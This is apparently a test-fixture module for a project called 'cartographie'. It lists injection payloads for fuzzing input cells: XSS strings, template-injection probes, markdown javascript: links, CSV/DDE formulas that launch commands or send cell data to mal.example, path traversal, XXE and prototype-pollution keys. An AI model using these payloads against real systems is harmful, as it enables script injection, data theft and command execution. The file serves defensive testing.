import { existsSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';

/* What an attacker types into a cell, kept short: one of each family. None of it names a real machine. */

/** Says in the page's title that it ran. */
const ran = "document.title='RAN'";

export const scripts = [
  `<script>${ran}</script>`,
  `</script><script>${ran}</script>`,
  `"><img src=x onerror="${ran}">`,
  `'><svg onload=${ran}>`,
  `<svg><animate onbegin=${ran} attributeName=x dur=1s>`,
  `</title><script>${ran}</script>`,
  `</style><script>${ran}</script>`,
  `--><script>${ran}</script><!--`,
  `<details open ontoggle=${ran}>`,
  `" autofocus onfocus="${ran}" x="`,
  `\` onmouseover=${ran} \``,
  `<iframe srcdoc="<script>parent.${ran}</script>">`,
  `<a href="javascript:${ran}">x</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${ran}">`,
  `<base href="https://mal.example/">`,
  `<style>@import 'https://mal.example/x.css';</style>`,
  `&lt;script&gt;${ran}&lt;/script&gt;`,
  `\\u003cscript\\u003e${ran}\\u003c/script\\u003e`,
  `＜script＞${ran}＜/script＞`,
  `<scr\u0000ipt>${ran}</scr\u0000ipt>`,
];

export const templates = [
  '{{constructor.constructor("return process")()}}',
  '{{#with "s" as |string|}}{{lookup string "constructor"}}{{/with}}',
  '{{> report}}{{{report}}}{{@root}}',
  `$\{7*7}<%= 7*7 %>#{7*7}[[7*7]]`,
  '$& $1 $` $$ %s %d %n',
];

export const markdown = [
  '[x](javascript:alert(1))',
  '![x](https://mal.example/pixel.png)',
  '[x]: https://mal.example/ "t"\n[x]',
  '<https://mal.example/"onmouseover="alert(1)>',
  '# titre\n\n| a | b |\n|---|---|\n| c | d |',
  '```\n</code></pre><script>\n```',
  '`` ` `` **a** _b_ ~~c~~ [^1]\n[^1]: note',
  '[a](https://x.example/"><img/src=x/onerror=alert(1)>)',
];

export const formulas = [
  '=1+1',
  '=HYPERLINK("https://mal.example/?"&A1;"x")',
  '=WEBSERVICE("https://mal.example/")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  ';=1+1',
  '","=1+1',
];

export const oddities = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'prototype',
  '../../../evade',
  '..\\..\\evade',
  '/etc/passwd',
  'CON',
  'a\u0000b',
  '\u0001\u0008\u001b[31mrouge\u001b[0m',
  '\u202eelbisivni\u202c',
  '\u2066a\u2067b\u2069',
  '\ud800',
  '\ufffe\uffff',
  'Z̸̧̢͎̗̈́a̵l̶g̷o̴',
  '𝒜'.repeat(40),
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9007199254740993',
  '0x1F',
  `${'a'.repeat(3000)}!`,
  `${'a,;'.repeat(400)}`,
  `${' '.repeat(3000)}x`,
  `${'('.repeat(500)}${')'.repeat(500)}`,
  'null',
  'undefined',
  '"',
  "'",
  '\\',
  'data:text/html,<script>alert(1)</script>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  ']]><x/>',
];

export const ownPayloads = [...scripts, ...templates, ...markdown, ...formulas, ...oddities];

const shared =
  process.env.CARTOGRAPHIE_PAYLOADS ?? resolve(import.meta.dirname, '..', '..', '..', 'shared', 'data', 'payloads');

/** The public lists of payloads, where this copy of the project stands beside them; null elsewhere. */
export function publicPayloads(): string[] | null {
  if (!existsSync(shared)) return null;
  const lines = (name: string) => readFileSync(join(shared, name), 'utf8').split('\n');
  const strings = JSON.parse(readFileSync(join(shared, 'blns.json'), 'utf8')) as string[];
  const all = [
    ...strings,
    ...lines('blns.txt'),
    ...lines('csv-injection-payloads.txt'),
    ...lines('xss-payload-list.txt'),
  ];
  return [...new Set(all)]
    .filter((line) => line.trim() !== '')
    .map((line) => line.replace(/\b(?:alert|prompt|confirm)\s*(?=[(`])/g, `${ran};(0,String)`));
}
